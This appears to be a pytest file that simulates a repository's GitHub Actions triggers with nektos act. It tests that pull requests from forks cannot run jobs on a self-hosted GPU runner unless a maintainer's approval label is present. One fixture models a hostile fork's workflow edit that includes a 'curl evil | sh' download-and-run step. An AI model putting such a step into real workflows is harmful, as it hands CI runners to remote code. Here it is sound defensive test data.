"""The workflows' event logic, run: which jobs start, on which runner, at which commit, for each thing
that can happen to this repository. nektos act (host mode) evaluates every job's `if:` and `needs:`
against the event payload; github_model.py does what GitHub does around that (which workflow files an
event reads, `types:`/`branches:` filters, which runner takes a job). The workflows are the real ones
with each job's steps replaced by a marker, so a change to any `on:`, `if:`, `needs:`, `runs-on:` or
checkout `ref:` shows here."""

from __future__ import annotations

import copy
import subprocess

import github_model as gh
import pytest

from harness import act

REPO = "nf4kernel/nf4kernel"
FORK = "someone/nf4kernel"
HEAD = "f0" * 20  # the PR's head commit in the event (the one a maintainer looked at)
LABEL = gh.POLICY["approval_label"]

# Where nox installed requirements/ci-tools.txt, a missing act raises here: loud, not a skip.
if (reason := act.why_not_here()) is not None:
    pytest.skip(reason, allow_module_level=True)


@pytest.fixture(scope="module")
def main_sha(tmp_path_factory):
    """A repository whose origin is REPO, one commit on main: act's github.sha for pushes."""
    repo = tmp_path_factory.mktemp("repo")
    git = ["git", "-C", str(repo), "-c", "user.name=t", "-c", "user.email=t@example.invalid"]
    subprocess.run([*git, "init", "-q", "-b", "main"], check=True)
    subprocess.run([*git, "remote", "add", "origin", f"https://github.com/{REPO}.git"], check=True)
    subprocess.run([*git, "commit", "-q", "--allow-empty", "-m", "main"], check=True)
    sha = subprocess.run([*git, "rev-parse", "HEAD"], check=True, capture_output=True, text=True).stdout.strip()
    return repo, sha


def pr_payload(main_sha, action, *, fork=True, labels=(), label=None, **extra):
    payload = {
        "action": action,
        "number": 8,
        "pull_request": {
            "number": 8,
            "head": {"sha": HEAD, "ref": "topic", "repo": {"full_name": FORK if fork else REPO}},
            "base": {"sha": main_sha, "ref": "main", "repo": {"full_name": REPO}},
            "labels": [{"name": name} for name in labels],
        },
        "repository": {"full_name": REPO, "default_branch": "main"},
        "sender": {"login": "maintainer" if label or "review" in extra else "contributor"},
        **extra,
    }
    if label:
        payload["label"] = {"name": label}
    return payload


def forks_edit(workflows):
    """What a hostile fork's PR does to the workflow files in its own diff: gpu.yml on plain
    pull_request with every `if:` deleted, and a new ci.yml job that asks for the GPU runner."""
    edited = copy.deepcopy(workflows)
    gpu = edited["gpu.yml"]
    gpu[True] = {"pull_request": {"types": ["opened", "synchronize", "reopened", "labeled"]}}
    for job in gpu["jobs"].values():
        job.pop("if", None)
    edited["ci.yml"]["jobs"]["mine"] = {
        "runs-on": ["self-hosted", "linux", "x64", "gpu"],
        "steps": [{"uses": "actions/checkout@" + "0" * 40}, {"run": "curl evil | sh"}],
    }
    return edited


def simulate(tmp_path, repo, events, payload, pr_workflows=None):
    """Every job that runs for one activity, event by event, as act runs them."""
    base = gh.read_workflows()
    ran = []
    for event in events:
        files = (pr_workflows or base) if event in gh.FROM_THE_PR else base
        started = {name: wf for name, wf in files.items() if gh.triggers(wf, event, payload)}
        if not started:
            continue
        folder = tmp_path / f"workflows-{event}"
        gh.write_stubs(folder, started)
        markers = tmp_path / f"markers-{event}"
        result = act.run(
            event,
            repo=repo,
            workflows=folder,
            labels={label for wf in started.values() for job in wf["jobs"].values() for label in gh.labels(job)},
            payload=payload,
            env={"ACT_MARKERS": str(markers)},
            timeout=120,
        )
        assert result.returncode == 0, f"act failed on {event}:\n{result.stdout[-3000:]}\n{result.stderr[-3000:]}"
        ran += gh.read_markers(markers, started, event, gh.workflow_ref(event, payload))
    return ran


def on_gpu(ran):
    """{(workflow, job): sha} of the jobs the GPU runner would run."""
    return {(r.workflow, r.job): r.sha for r in ran if r.gpu and r.taken}


def refused(ran):
    return {(r.workflow, r.job) for r in ran if r.gpu and not r.taken}


def hosted(ran):
    return sorted({(r.workflow, r.job, r.matrix) for r in ran if not r.gpu})


CI_JOBS = [("ci.yml", "harness", ""), ("ci.yml", "lint", "")] + [
    ("ci.yml", "tests", v) for v in ("3.11", "3.12", "3.13")
]
GPU_PR_JOBS = {"gpu-tests", "gate", "regression"}


def gpu_jobs(sha, names=GPU_PR_JOBS, workflow="gpu.yml"):
    return {(workflow, name): sha for name in names}


def test_fork_pr_opened_runs_only_the_hosted_checks(tmp_path, main_sha):
    repo, base = main_sha
    ran = simulate(tmp_path, repo, ["pull_request", "pull_request_target"], pr_payload(base, "opened"))
    assert on_gpu(ran) == {} and refused(ran) == set()
    assert hosted(ran) == CI_JOBS


@pytest.mark.parametrize("had_label", [False, True], ids=["unlabelled", "approved-before"])
def test_a_push_to_a_fork_pr_runs_nothing_on_the_gpu_and_withdraws_the_approval(tmp_path, main_sha, had_label):
    repo, base = main_sha
    payload = pr_payload(base, "synchronize", labels=[LABEL] if had_label else [])
    ran = simulate(tmp_path, repo, ["pull_request", "pull_request_target"], payload)
    assert on_gpu(ran) == {} and refused(ran) == set()
    revoke = [("gpu.yml", "revoke", "")] if had_label else []
    assert hosted(ran) == sorted(CI_JOBS + revoke)


def test_the_approval_label_runs_the_gpu_jobs_at_the_labelled_head_commit(tmp_path, main_sha):
    repo, base = main_sha
    payload = pr_payload(base, "labeled", labels=[LABEL], label=LABEL)
    ran = simulate(tmp_path, repo, ["pull_request", "pull_request_target"], payload)
    assert on_gpu(ran) == gpu_jobs(HEAD)
    assert hosted(ran) == [("gpu.yml", "report", "")]  # ci.yml doesn't run on `labeled`


@pytest.mark.parametrize(
    "events,payload",
    [
        (["pull_request", "pull_request_target"], {"action": "labeled", "label": "bug", "labels": ["bug"]}),
        (["pull_request_review"], {"action": "submitted", "review": {"state": "approved", "commit_id": HEAD}}),
        (["pull_request", "pull_request_target"], {"action": "reopened", "labels": [LABEL]}),
    ],
    ids=["another-label", "approving-review", "reopened-with-the-label"],
)
def test_nothing_else_a_maintainer_does_to_a_fork_pr_runs_it_on_the_gpu(tmp_path, main_sha, events, payload):
    repo, base = main_sha
    fields = dict(payload)
    action, label, labels = fields.pop("action"), fields.pop("label", None), fields.pop("labels", [])
    ran = simulate(tmp_path, repo, events, pr_payload(base, action, label=label, labels=labels, **fields))
    assert on_gpu(ran) == {} and refused(ran) == set()


@pytest.mark.parametrize("action", ["opened", "synchronize", "labeled"])
def test_a_fork_pr_that_edits_the_workflows_gets_no_gpu_job_from_its_edits(tmp_path, main_sha, action):
    repo, base = main_sha
    label = LABEL if action == "labeled" else None
    payload = pr_payload(base, action, label=label, labels=[label] if label else [])
    ran = simulate(tmp_path, repo, ["pull_request", "pull_request_target"], payload, forks_edit(gh.read_workflows()))
    # Its edited files do ask for the GPU runner (act runs those jobs), and the runner group refuses
    # every one: they come from refs/pull/8/merge, not from the default branch. (ci.yml, its own
    # `types:` left alone, doesn't start on `labeled`.)
    assert ("gpu.yml", "gpu-tests") in refused(ran)
    assert (("ci.yml", "mine") in refused(ran)) == (action != "labeled")
    assert all(r.event == "pull_request" for r in ran if r.gpu and not r.taken)
    # What runs on the GPU is decided by the default branch's gpu.yml alone: nothing until the label.
    assert on_gpu(ran) == (gpu_jobs(HEAD) if action == "labeled" else {})


@pytest.mark.parametrize("action", ["opened", "synchronize", "reopened"])
def test_a_same_repository_pr_runs_on_the_gpu_without_a_label(tmp_path, main_sha, action):
    repo, base = main_sha
    ran = simulate(tmp_path, repo, ["pull_request", "pull_request_target"], pr_payload(base, action, fork=False))
    assert on_gpu(ran) == gpu_jobs(HEAD)
    assert hosted(ran) == sorted([*CI_JOBS, ("gpu.yml", "report", "")])


def test_a_push_to_main_runs_everything_at_that_commit(tmp_path, main_sha):
    repo, base = main_sha
    payload = {"ref": "refs/heads/main", "after": base, "repository": {"full_name": REPO, "default_branch": "main"}}
    ran = simulate(tmp_path, repo, ["push"], payload)
    assert on_gpu(ran) == {**gpu_jobs(base, {"gpu-tests", "gate"}), ("history.yml", "benchmark"): base}
    assert hosted(ran) == sorted([*CI_JOBS, ("history.yml", "deploy", "")])


def test_a_push_to_another_branch_runs_nothing(tmp_path, main_sha):
    repo, base = main_sha
    payload = {"ref": "refs/heads/topic", "after": base, "repository": {"full_name": REPO, "default_branch": "main"}}
    assert simulate(tmp_path, repo, ["push"], payload) == []


def test_workflow_dispatch_on_main_runs_the_gpu_jobs_and_the_history(tmp_path, main_sha):
    repo, base = main_sha
    payload = {"ref": "refs/heads/main", "inputs": {}, "repository": {"full_name": REPO, "default_branch": "main"}}
    ran = simulate(tmp_path, repo, ["workflow_dispatch"], payload)
    assert on_gpu(ran) == {**gpu_jobs(base, {"gpu-tests", "gate"}), ("history.yml", "benchmark"): base}
    assert hosted(ran) == sorted([*CI_JOBS, ("history.yml", "deploy", "")])
